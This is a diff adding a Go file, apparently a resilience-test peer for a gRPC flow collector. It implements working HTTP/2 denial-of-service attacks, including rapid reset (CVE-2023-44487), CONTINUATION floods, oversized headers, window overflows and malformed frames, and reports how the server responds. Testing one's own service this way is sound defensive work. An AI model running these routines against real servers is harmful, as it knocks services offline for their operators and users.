@@ -1,0 +1,180 @@
+package main
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/json"
+	"fmt"
+	"strings"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	"grpcpeer/flowpb"
+)
+
+// attacker speaks HTTP/2 frame by frame.
+type attacker struct {
+	*http2.Framer
+	connection *tls.Conn
+	block      bytes.Buffer
+	encoder    *hpack.Encoder
+	stream     uint32
+}
+
+func dial(chosen *options) *attacker {
+	config := chosen.tls()
+	config.NextProtos = []string{"h2"}
+	connection, err := tls.Dial("tcp", chosen.collector, config)
+	if err != nil {
+		fail(err)
+	}
+	if _, err := connection.Write([]byte(http2.ClientPreface)); err != nil {
+		fail(err)
+	}
+	a := &attacker{Framer: http2.NewFramer(connection, connection), connection: connection, stream: 1}
+	a.encoder = hpack.NewEncoder(&a.block)
+	return a
+}
+
+// headers are those of a call of Export, and more.
+func (a *attacker) headers(more ...hpack.HeaderField) []byte {
+	a.block.Reset()
+	fields := []hpack.HeaderField{
+		{Name: ":method", Value: "POST"},
+		{Name: ":scheme", Value: "https"},
+		{Name: ":path", Value: flowpb.FlowExportService_Export_FullMethodName},
+		{Name: ":authority", Value: "collector"},
+		{Name: "content-type", Value: "application/grpc"},
+		{Name: "te", Value: "trailers"},
+	}
+	for _, field := range append(fields, more...) {
+		if err := a.encoder.WriteField(field); err != nil {
+			fail(err)
+		}
+	}
+	return a.block.Bytes()
+}
+
+// open begins a stream.
+func (a *attacker) open() (uint32, error) {
+	stream := a.stream
+	a.stream += 2
+	return stream, a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(), EndHeaders: true})
+}
+
+var attacks = map[string]func(*attacker) error{
+	// CVE-2023-44487: streams that are reset as soon as they are opened.
+	"rapid-reset": func(a *attacker) error {
+		stream, err := a.open()
+		if err != nil {
+			return err
+		}
+		return a.WriteRSTStream(stream, http2.ErrCodeCancel)
+	},
+	"settings": func(a *attacker) error {
+		return a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
+	},
+	"ping": func(a *attacker) error { return a.WritePing(false, [8]byte{1}) },
+	// One block of headers that never ends.
+	"continuation": func(a *attacker) error {
+		if a.stream == 1 {
+			a.stream = 3
+			return a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.headers(), EndHeaders: false})
+		}
+		a.block.Reset()
+		field := hpack.HeaderField{Name: "x-" + strings.Repeat("a", 1000), Value: strings.Repeat("b", 8000), Sensitive: true}
+		if err := a.encoder.WriteField(field); err != nil {
+			return err
+		}
+		return a.WriteContinuation(1, false, a.block.Bytes())
+	},
+	"huge-headers": func(a *attacker) error {
+		stream := a.stream
+		a.stream += 2
+		fields := []hpack.HeaderField{}
+		for number := 0; number < 200; number++ {
+			fields = append(fields, hpack.HeaderField{Name: fmt.Sprintf("x-%d-%d", stream, number), Value: strings.Repeat("v", 70)})
+		}
+		return a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(fields...), EndHeaders: true})
+	},
+	"window-updates":     func(a *attacker) error { return a.WriteWindowUpdate(0, 1) },
+	"overflowing-window": func(a *attacker) error { return a.WriteWindowUpdate(0, 1<<31-1) },
+	// Requests that say to be large, of which the beginning comes, in ever more streams.
+	"half-requests": func(a *attacker) error {
+		stream, err := a.open()
+		if err != nil {
+			return err
+		}
+		return a.WriteData(stream, false, append([]byte{0, 0, 0x3f, 0xff, 0xff}, make([]byte, 10000)...))
+	},
+	"too-long-request": func(a *attacker) error {
+		stream, err := a.open()
+		if err != nil {
+			return err
+		}
+		return a.WriteData(stream, false, []byte{0, 0x7f, 0xff, 0xff, 0xff, 1})
+	},
+	"wrong-frames": func(a *attacker) error {
+		return a.WriteRawFrame(http2.FrameType(200), 0xff, a.stream, make([]byte, 16384))
+	},
+	"data-on-stream-0": func(a *attacker) error { return a.WriteRawFrame(http2.FrameData, 0, 0, []byte{1}) },
+	"empty-data": func(a *attacker) error {
+		if a.stream == 1 {
+			if _, err := a.open(); err != nil {
+				return err
+			}
+		}
+		return a.WriteData(1, false, nil)
+	},
+}
+
+// attack does one thing again and again, for as long as it is let or told, and says how that ended.
+func attack(chosen *options) {
+	commands(func(line []byte) {
+		var asked struct {
+			Attack string
+			Times  int
+		}
+		if err := json.Unmarshal(line, &asked); err != nil {
+			fail(err)
+		}
+		once := attacks[asked.Attack]
+		if once == nil {
+			fail(fmt.Errorf("no attack %q", asked.Attack))
+		}
+		a := dial(chosen)
+		ended := make(chan string, 1)
+		go func() {
+			for {
+				frame, err := a.ReadFrame()
+				if err != nil {
+					ended <- err.Error()
+					return
+				}
+				if goaway, ok := frame.(*http2.GoAwayFrame); ok {
+					ended <- fmt.Sprintf("GOAWAY %s %s", goaway.ErrCode, goaway.DebugData())
+					return
+				}
+			}
+		}()
+		how := ""
+		if err := a.WriteSettings(); err != nil {
+			how = err.Error()
+		}
+		a.connection.SetWriteDeadline(time.Now().Add(10 * time.Second))
+		done := 0
+		for ; how == "" && done < asked.Times; done++ {
+			if err := once(a); err != nil {
+				how = err.Error()
+			}
+		}
+		select {
+		case how = <-ended:
+		case <-time.After(500 * time.Millisecond):
+		}
+		a.connection.Close()
+		emit(map[string]any{"attack": asked.Attack, "times": done, "ended": how})
+	})
+}
